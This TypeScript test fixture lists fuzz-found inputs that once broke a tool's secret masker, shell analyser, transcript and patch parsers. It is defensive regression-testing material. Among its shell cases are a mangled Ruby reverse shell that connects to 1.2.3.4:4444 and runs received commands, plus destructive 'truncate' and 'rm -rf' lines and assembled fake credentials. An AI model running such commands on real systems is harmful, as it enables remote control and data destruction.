/** What fuzzing has found, cut down: inputs that once broke a target, by what was wrong. Tokens are put together, so that no scanner takes them for real. */
import { specimen } from '../../src/core/secrets/specimen.ts';

const POLAR = 'polar' + '_oat_' + specimen('alnum', 32, 7);
const KEY = '-----BEGIN ' + 'PRIVATE KEY-----' + specimen('alnum', 90, 3);

export const found: readonly (readonly [target: string, title: string, input: string])[] = [
  [
    'report',
    'hexadecimal digits are broken so that no seven of them are left for a commit to be linked',
    'digest 0123456789abcdef, deadbeef01',
  ],
  ['report', 'the same behind a percent sign, where an escape ends', 'wned%2Dn ed%999999999Dd%2D'],
  ['report', 'digits around a backtick that is left out do not become one commit', 'of 429c49`7296 it'],
  ['report', 'hyphens at the start of an item are no line across the page', '--'],
  ['report', 'nor with a blank before them', ' - - -'],
  ['report', 'a number at the start of an item is no list of its own', '7. x'],
  ['secrets', 'a secret that stands once more glued to a letter is masked there too', `x${POLAR}\n${POLAR}`],
  [
    'secrets',
    'a key is the same with blanks before the object that it stands in',
    `_"kty":"EC","crv":"P-256","d":"${specimen('word', 43, 2)}"}\n_"kty":"EC","crv":"P-256","d":"${specimen('word', 43, 2)}"}`,
  ],
  ['secrets', 'a key without its end is the same key with blanks behind it', `a ${KEY}`],
  [
    'transcript',
    'a call that names no tool is not understood, and not just any tool',
    '{"timestamp":"t","type":"session_meta","payload":{"id":"s","cwd":"/w","originator":"codex","cli_version":"0.1"}}\n{"timestamp":"t","type":"response_item","payload":{"type":"custom_tool_call","call_id":"c","input":"x"}}\n',
  ],
  [
    'policy',
    'an escape beyond the last character is told with its place',
    '#outpost.json\n{"a\\u{65536a}":1,"permissions":{"allow":["x"]}}',
  ],
  [
    'transcript',
    'a call whose id is empty gets one of its own',
    '{"type":"tool_call","subtype":"completed","call_id":"","tool_call":{"shellToolCall":{"args":{"command":"ls"}}},"session_id":"s"}\n',
  ],
  ['shell', 'expansions that are never closed do not cost twice as much for each of them', 'a ${x:n'.repeat(40)],
  ['shell', 'nor do those that are', `echo ${'${x:'.repeat(40)}1${'}'.repeat(40)}`],
  ['shell', 'nor do offsets whose quotes open the next', `echo ${'"${x: "0:7}" echo "${x:0}" '.repeat(30)}`],
  ['shell', 'nor do subscripts whose quotes open the next', `echo ${'"${a["0]}" echo "${a[0]}" '.repeat(30)}`],
  [
    'shell',
    'what it threatens last is told where there is no room left',
    `for u in s b 1 x * '' ''""'' f ''\nfor e in s * 1 x D '' x\ntruncate -s0 ? f o`,
  ],
  [
    'shell',
    'a word of thousands of letters and braces that nothing closes',
    `sed -n ${'{/BEGIN/erface=ts-lefttt-outEND/'.repeat(90)}`,
  ],
  [
    'shell',
    'names of inline code that stand for each other, in a loop over what is not known',
    "for f in $(ls *.md) a b\nfor g in $(ls *.c) d\nruby -e '" +
      'exitAif fork;c=TCPSocket.new("1.2.3.4",4444L;while(cmd=c.;while(cile(cmd=c.;while(cmd=c.gets);IO.popen(cmd,gets);IO.popen(coEmitmd=c.gets);IO.popen(cmd,gets);IO.popen(coEmit\'',
  ],
  [
    'shell',
    'a pattern of many stars over a long name that was moved there',
    `mv src /tmp/${'a'.repeat(220)} && rm -rf /tmp/${'?*a'.repeat(12)}?b`,
  ],
  ['shell', 'flags of a compiler that could be read in many ways', `CFLAGS='${'-O'.repeat(40)}!' make`],
  ['shell', 'targets that could be read in many ways', `make 'deploy${'-O'.repeat(40)}!' 'test${'a_'.repeat(40)}!'`],
  ['shell', 'a sum of a variable that names itself often', `${'x+=${x:-a} x+=$x$y\n'.repeat(12)}echo $((x + 1))`],
  [
    'patch',
    'a header whose names end in a carriage return names no file',
    'diff --git a/n b/n\r\nnew file mode 100644\n-deleted file mode 100755\n',
  ],
  [
    'secrets',
    'a password behind many others on one line is masked at once, not when the masked text is masked again',
    `mysql -u root${Array.from({ length: 16 }, (_, n) => ` -p${specimen('alnum', 14, n)} appot`).join('')}`,
  ],
  ...(
    [
      ['equals signs', n => `uthToken=istmp_pat=legcdk./airtable.tst${n}uAqWEO_authToken=`],
      ['colons', n => `datadogToken:${specimen('word', 9, n)}`],
      ['names of variables', n => `OPSGENIE_API_KEY=${specimen('word', 9, n)}`],
      ['objects', n => `"authToken":"${specimen('word', 9, n)} `],
      ['quoted values', n => `fastly_secret = '${specimen('word', 9, n)} `],
    ] as const satisfies readonly (readonly [string, (n: number) => string])[]
  ).map(
    ([title, piece]) =>
      [
        'secrets',
        `values that end together, in ${title}, are masked the same when they are too many to be weighed`,
        Array.from({ length: 180 }, (_, n) => piece(n) + (n % 24 === 0 ? '\u0000\n\u001b[1m' : '')).join(''),
      ] as const,
  ),
];
